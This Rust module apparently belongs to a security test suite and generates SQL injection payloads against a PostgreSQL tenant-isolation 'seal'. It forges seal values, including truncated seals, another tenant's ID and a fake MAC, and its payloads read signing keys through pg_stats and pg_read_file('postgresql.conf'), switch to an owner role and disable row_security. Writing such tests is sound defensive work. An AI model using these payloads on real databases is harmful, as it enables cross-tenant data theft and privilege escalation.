//! Payloads against the seal itself: the setting set together with a seal that the attacker could make, and ways to the
//! keys.

use crate::endpoint::Endpoint::{Echo, First, Search};
use crate::payloads::{Payload, SET};

pub(crate) fn all() -> Vec<Payload> {
    let own = "current_setting('rowhouse.seal')";
    let b = "'00000000-0000-0000-0000-00000000000b'";
    let seals = [
        "''".to_owned(),
        "'x'".to_owned(),
        "NULL".to_owned(),
        b.to_owned(),
        format!("repeat('0', 166) || {b}"),
        // The own seal, whose tenant is another; cut, and with the other tenant behind it.
        own.to_owned(),
        format!("left({own}, 164)"),
        format!("{own} || encode({b}, 'hex')"),
        format!("left({own}, 84) || encode({b}, 'hex')"),
        // For no process, for others, and for ever.
        format!("left({own}, 164) || '00'"),
        format!("left({own}, 164) || 'ff'"),
        format!("left({own}, 84) || '7fffffffffffffff' || substr({own}, 101)"),
        format!("overlay({own} placing encode('1t00000000', 'hex') from 65)"),
        format!("upper({own})"),
        // A digest of what can be read, in the place of the MAC.
        format!(
            "encode(sha256(decode(substr({own}, 65), 'hex') || int4send(pg_backend_pid()) || {b}), 'hex') || substr({own}, 65)"
        ),
        "encode(sha256('') || '1t00000000' || decode('7fffffffffffffff' || repeat('0', 64) || '00', 'hex'), 'hex')".to_owned(),
        format!("{own} || repeat('01', 64)"),
    ];
    let mut all = Vec::new();
    for seal in &seals {
        for read in ["title", "first_title()"] {
            all.push((
                Search,
                format!(
                    "zz' UNION ALL SELECT 'x', set_config('rowhouse.seal', {seal}, true) UNION ALL SELECT 'y', {SET} \
                     UNION ALL SELECT n::text, {read} FROM items -- "
                ),
            ));
        }
        // For the session: the next statement's head must not care.
        all.push((
            First,
            format!("zz' UNION ALL SELECT set_config('rowhouse.seal', {seal}, false), set_config('app.current_tenant_id', {b}, false) -- "),
        ));
    }
    let keys = [
        "(SELECT string_agg(k::text, ',') FROM rowhouse.seal_keys AS k)",
        "query_to_xml('SELECT * FROM rowhouse.seal_keys', true, false, '')::text",
        "table_to_xml('rowhouse.seal_keys', true, false, '')::text",
        "rowhouse.new_seal_key('app.current_tenant_id', 'uuid', '{}')",
        "(SELECT string_agg(most_common_vals::text, ',') FROM pg_stats WHERE tablename = 'seal_keys')",
        "(SELECT string_agg(histogram_bounds::text, ',') FROM pg_stats WHERE schemaname = 'rowhouse')",
        "(SELECT string_agg(stavalues1::text, ',') FROM pg_statistic)",
        "(SELECT string_agg(query, ',') FROM pg_stat_activity)",
        "(SELECT string_agg(statement, ',') FROM pg_prepared_statements)",
        "(SELECT string_agg(statement, ',') FROM pg_cursors)",
        "(SELECT string_agg(name || setting, ',') FROM pg_settings)",
        "(SELECT string_agg(prosrc, ',') FROM pg_proc WHERE pronamespace = 'rowhouse'::regnamespace)",
        "pg_read_file('postgresql.conf')",
        "(SELECT string_agg(s::text, ',') FROM pg_file_settings AS s)",
        "rowhouse.claim('app.current_tenant_id')",
        "rowhouse.tenant()::text",
        "current_setting('rowhouse.seal')",
        "set_config('session_authorization', 'rowhouse_owner', true)",
        "set_config('role', 'rowhouse_owner', true)",
        "set_config('row_security', 'off', true) || (SELECT max(title) FROM items)",
    ];
    all.extend(
        keys.iter()
            .map(|expression| (Echo, format!("' || {expression} || '"))),
    );
    all.into_iter()
        .map(|(endpoint, text)| Payload { endpoint, text })
        .collect()
}
